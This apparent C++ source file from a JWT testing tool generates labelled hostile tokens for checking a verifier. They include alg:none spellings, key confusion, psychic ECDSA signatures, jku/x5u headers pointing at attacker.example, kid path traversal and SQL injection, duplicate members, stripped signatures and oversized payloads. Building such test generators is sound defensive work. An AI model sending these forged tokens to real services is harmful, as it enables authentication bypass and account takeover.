#include "gen_hostile.hpp"

#include <openssl/bn.h>
#include <openssl/curve25519.h>
#include <openssl/ec.h>
#include <openssl/nid.h>

#include <algorithm>
#include <array>
#include <cstdint>
#include <stdexcept>

#include "jwtbatch/base64url.hpp"
#include "jwtbatch/primitives.hpp"

namespace jwtbatch::cli::gen_parts {
namespace {

std::string build_alg_none(shape_context& x) {
  // RFC 7515 A.5 and its spellings (S1); half with the genuine signature left on.
  constexpr std::array<std::string_view, 5> spellings = {"none", "None", "NONE", "nOnE",
                                                         R"(\u006eone)"};
  const std::string header =
      R"({"alg":")" + std::string(spellings[x.variant % 5]) + R"(","typ":"JWT"})";
  std::string sig;
  if (x.variant >= 5) sig = std::string(split(x.sg.sign(x.target, x.c.json(x.o))).signature);
  return compact(header, x.c.json(x.o), sig);
}

std::string build_key_confusion(shape_context& x, const signing_key& k) {
  // S2: HS256 keyed with the public key's bytes, as a library that feeds "the key"
  // to HMAC would verify it.
  if (k.k.kind() == key_kind::oct) {
    // No asymmetric key: another HMAC hash on a key bound to one.
    const std::span<const std::uint8_t> secret = k.k.hmac_secret();
    alg other = alg::hs256;
    for (alg a : {alg::hs256, alg::hs384, alg::hs512}) {
      if (!k.k.allows(a)) other = a;
    }
    const std::string header = R"({"alg":")" + std::string(alg_name(other)) +
                               R"(","typ":"JWT","kid":)" + json_str(k.kid) + "}";
    const std::string input = base64url_encode(header) + "." + base64url_encode(x.c.json(x.o));
    return input + "." + hmac(other, secret, input);
  }
  const std::vector<std::uint8_t> der = k.k.public_spki_der();
  std::string secret;
  switch (x.variant % 3) {
    case 0:
      secret = spki_pem(der, true);
      break;
    case 1:
      secret = spki_pem(der, false);
      break;
    default:
      secret.assign(der.begin(), der.end());
      break;
  }
  const std::string header = R"({"alg":"HS256","typ":"JWT","kid":)" + json_str(k.kid) + "}";
  const std::string input = base64url_encode(header) + "." + base64url_encode(x.c.json(x.o));
  return input + "." + hmac(alg::hs256, as_bytes(secret), input);
}

std::string build_psychic(shape_context& x, const signing_key& k) {
  // S6 (CVE-2022-21449): r = s = 0, or r = s = n.
  // An EC key serves only its curve's alg (RFC 7518 §3.4): ES256 P-256, ES384 P-384,
  // ES512 P-521; R and S are each half of the signature.
  const std::size_t field_bytes = k.k.signature_size(k.a) / 2;
  std::vector<std::uint8_t> sig(2 * field_bytes, 0);
  if (x.variant % 2 == 1) {
    const int nid = k.a == alg::es256   ? NID_X9_62_prime256v1
                    : k.a == alg::es384 ? NID_secp384r1
                                        : NID_secp521r1;
    const bssl::UniquePtr<EC_GROUP> group(EC_GROUP_new_by_curve_name(nid));
    const BIGNUM* order = group ? EC_GROUP_get0_order(group.get()) : nullptr;
    if (order == nullptr || BN_bn2bin_padded(sig.data(), field_bytes, order) != 1 ||
        BN_bn2bin_padded(sig.data() + field_bytes, field_bytes, order) != 1) {
      throw std::runtime_error("gen: cannot write the group order");
    }
  }
  return compact(default_header(k), x.c.json(x.o), b64(sig));
}

std::string build_embedded(shape_context& x) {
  // S3: the attacker's own key in the header, and a signature made with it.
  const signing_key& k = x.target;
  const std::string claims_json = x.c.json(x.o);
  const std::string prefix =
      R"({"alg":")" + std::string(alg_name(k.a)) + R"(","typ":"JWT","kid":)" + json_str(k.kid);
  if (k.a == alg::eddsa) {
    const std::vector<std::uint8_t> seed = x.rng.bytes(32);
    std::array<std::uint8_t, 32> pub{};
    std::array<std::uint8_t, 64> priv{};
    ED25519_keypair_from_seed(pub.data(), priv.data(), seed.data());
    const std::string header =
        prefix + R"(,"jwk":{"kty":"OKP","crv":"Ed25519","x":")" + b64(pub) + R"("}})";
    const std::string input = base64url_encode(header) + "." + base64url_encode(claims_json);
    std::array<std::uint8_t, 64> sig{};
    ED25519_sign(sig.data(), reinterpret_cast<const std::uint8_t*>(input.data()), input.size(),
                 priv.data());
    return input + "." + b64(sig);
  }
  if (k.a == alg::hs256 || k.a == alg::hs384 || k.a == alg::hs512) {
    const std::vector<std::uint8_t> secret = x.rng.bytes(64);
    const std::string header = prefix + R"(,"jwk":{"kty":"oct","k":")" + b64(secret) + R"("}})";
    const std::string input = base64url_encode(header) + "." + base64url_encode(claims_json);
    return input + "." + hmac(k.a, secret, input);
  }
  // RSA/EC: the attacker's keys sit behind a URL the verifier must never fetch; the
  // signature is theirs (random bytes of the right length to us). ECDSA halves get
  // a zero top byte so they stay below the group order (not a psychic signature).
  const std::string header =
      prefix + (x.variant % 2 == 0 ? R"(,"jku":"https://attacker.example/.well-known/jwks.json"})"
                                   : R"(,"x5u":"https://attacker.example/cert.pem"})");
  std::vector<std::uint8_t> sig = x.rng.bytes(k.k.signature_size(k.a));
  if (k.k.kind() == key_kind::ec) {
    sig[0] = 0;
    sig[sig.size() / 2] = 0;  // R and S: each half of the signature
  }
  return compact(header, claims_json, b64(sig));
}

std::string build_non_canonical(shape_context& x) {
  // P1: a second spelling of a genuine token's signature.
  const std::string token = x.sg.sign(x.target, x.c.json(x.o));
  const parts p = split(token);
  std::string sig(p.signature);
  const std::string head = std::string(p.header) + "." + std::string(p.payload) + ".";
  if (x.variant % 3 == 1 && sig.size() % 4 != 0) {
    // Non-zero unused low bits in the last character: decodes to the same bytes.
    static constexpr std::string_view k_alphabet =
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    const std::size_t v = k_alphabet.find(sig.back());
    sig.back() = k_alphabet[v | 1U];  // the lowest bit is always unused
    return head + sig;
  }
  if (x.variant % 3 == 2) {
    const std::size_t i = sig.find_first_of("-_");
    if (i != std::string::npos) {
      sig[i] = sig[i] == '-' ? '+' : '/';  // the standard alphabet's spelling
      return head + sig;
    }
  }
  return head + sig + (sig.size() % 4 == 3 ? "=" : "==");  // padding
}

std::string build_duplicate(shape_context& x) {
  // J1: a genuine signature over a header or payload with a member twice.
  const signing_key& k = x.target;
  const std::string alg_json = json_str(alg_name(k.a));
  const std::string kid_json = json_str(k.kid);
  switch (x.variant % 4) {
    case 0:
      return x.sg.sign(
          k, x.c.json(x.o),
          R"({"alg":)" + alg_json + R"(,"typ":"JWT","kid":)" + kid_json + R"(,"alg":"none"})");
    case 1:
      return x.sg.sign(
          k, x.c.json(x.o),
          R"({"alg":)" + alg_json + R"(,"\u0061lg":"none","typ":"JWT","kid":)" + kid_json + "}");
    case 2:
      return x.sg.sign(k, x.c.json(x.o),
                       R"({"kid":)" + kid_json + R"(,"alg":)" + alg_json +
                           R"(,"typ":"JWT","kid":"../../keys/other"})");
    default: {
      claims c = x.c;
      c.extra = R"(,"sub":"admin")";
      return x.sg.sign(k, c.json(x.o));
    }
  }
}

std::string build_crit(shape_context& x) {
  // H1/H2: must-understand extensions the engine does not implement.
  const signing_key& k = x.target;
  const std::string prefix =
      R"({"alg":)" + json_str(alg_name(k.a)) + R"(,"typ":"JWT","kid":)" + json_str(k.kid);
  switch (x.variant % 3) {
    case 0:
      return x.sg.sign(k, x.c.json(x.o),
                       prefix + R"(,"crit":["exp"],"exp":)" + std::to_string(x.c.exp) + "}");
    case 1:
      return x.sg.sign(k, x.c.json(x.o), prefix + R"(,"crit":["b64"],"b64":false})");
    default:
      return x.sg.sign(k, x.c.json(x.o),
                       prefix + R"(,"crit":["urn:example:mfa"],"urn:example:mfa":true})");
  }
}

std::string build_stripped(shape_context& x) {
  // S5: the signature removed or cut to a prefix (canonical base64url).
  const std::string token = x.sg.sign(x.target, x.c.json(x.o));
  const parts p = split(token);
  std::string head = std::string(p.header) + "." + std::string(p.payload) + ".";
  if (x.variant % 3 == 0) return head;
  std::vector<std::uint8_t> sig = unb64(p.signature);
  sig.resize(x.variant % 3 == 1 ? 16 : 1);
  return head + b64(sig);
}

std::string build_kid_injection(shape_context& x) {
  // S4: the kid as a path, an SQL fragment, or a real kid with a NUL suffix.
  const std::string payload = x.c.json(x.o);
  switch (x.variant % 3) {
    case 0: {  // "../../dev/null": the empty file as the HMAC key
      const std::string header =
          R"({"alg":"HS256","typ":"JWT","kid":"../../../../../../dev/null"})";
      const std::string input = base64url_encode(header) + "." + base64url_encode(payload);
      return input + "." + hmac(alg::hs256, {}, input);
    }
    case 1: {  // the query returns the attacker's chosen key
      const std::string header =
          R"({"alg":"HS256","typ":"JWT","kid":"x' UNION SELECT 'attacker-secret' -- "})";
      const std::string input = base64url_encode(header) + "." + base64url_encode(payload);
      return input + "." + hmac(alg::hs256, as_bytes("attacker-secret"), input);
    }
    default: {  // a C-string lookup would truncate at the NUL and find the real key
      const signing_key& k = x.target;
      const std::string genuine = x.sg.sign(k, payload);
      const std::string header = R"({"alg":)" + json_str(alg_name(k.a)) + R"(,"typ":"JWT","kid":)" +
                                 json_str(k.kid + '\0') + "}";
      return compact(header, payload, split(genuine).signature);
    }
  }
}

std::string build_oversize(shape_context& x) {
  // P3: a genuinely signed token over the 64 KiB default limit.
  claims c = x.c;
  c.extra = R"(,"pad":")" + std::string(66000 + x.rng.below(4096), 'A') + "\"";
  return x.sg.sign(x.target, c.json(x.o));
}

std::string build_deep(shape_context& x) {
  // J4: a genuinely signed payload nested 5,000 levels deep.
  constexpr std::size_t depth = 5000;
  claims c = x.c;
  if (x.variant % 2 == 0) {
    c.extra = R"(,"ctx":)" + std::string(depth, '[') + std::string(depth, ']');
  } else {
    std::string nested;
    for (std::size_t i = 0; i < depth; ++i) nested += R"({"a":)";
    nested += "1";
    nested += std::string(depth, '}');
    c.extra = R"(,"ctx":)" + nested;
  }
  return x.sg.sign(x.target, c.json(x.o));
}

}  // namespace

std::vector<shape> hostile_shapes(const signer& sg) {
  const auto& targets = sg.targets();
  std::vector<signing_key> asym;
  std::vector<signing_key> hmac_bound;
  std::vector<signing_key> ec;
  for (const auto& t : targets) {
    if (t.k.kind() == key_kind::oct) {
      // An HMAC key bound to fewer than all three hashes can be confused with another.
      if (!t.k.allows(alg::hs256) || !t.k.allows(alg::hs384) || !t.k.allows(alg::hs512)) {
        hmac_bound.push_back(t);
      }
    } else {
      asym.push_back(t);
    }
    if (t.k.kind() == key_kind::ec) ec.push_back(t);
  }
  // RSA first: the classic form of the attack.
  std::stable_partition(asym.begin(), asym.end(),
                        [](const signing_key& s) { return s.k.kind() == key_kind::rsa; });
  std::vector<shape> shapes = {
      {"alg_none", attack_label::alg_none, 10, build_alg_none},
      {"key_confusion", attack_label::key_confusion, 3, nullptr, asym.empty() ? hmac_bound : asym},
      {"psychic_signature", attack_label::psychic_signature, 2, nullptr, ec},
      {"embedded_key", attack_label::embedded_key, 2, build_embedded},
      {"non_canonical_encoding", attack_label::non_canonical_encoding, 3, build_non_canonical},
      {"duplicate_member", attack_label::duplicate_member, 4, build_duplicate},
      {"crit_bypass", attack_label::crit_bypass, 3, build_crit},
      {"signature_stripped", attack_label::signature_stripped, 3, build_stripped},
      {"kid_injection", attack_label::kid_injection, 3, build_kid_injection},
      {"oversize", attack_label::none, 1, build_oversize},
      {"deep_nesting", attack_label::none, 2, build_deep},
  };
  // One round of variants per key of the kind the shape needs.
  shapes[1].variants *= std::max<std::size_t>(1, shapes[1].keys.size());
  shapes[2].variants *= std::max<std::size_t>(1, shapes[2].keys.size());
  shapes[1].available = !shapes[1].keys.empty();
  shapes[2].available = !shapes[2].keys.empty();
  std::erase_if(shapes, [](const shape& s) { return !s.available; });
  return shapes;
}

std::string build_shape(const shape& s, shape_context& x) {
  if (s.name == "key_confusion") {
    return build_key_confusion(x, s.keys[(x.variant / 3) % s.keys.size()]);
  }
  if (s.name == "psychic_signature") {
    return build_psychic(x, s.keys[(x.variant / 2) % s.keys.size()]);
  }
  return s.build(x);
}

}  // namespace jwtbatch::cli::gen_parts
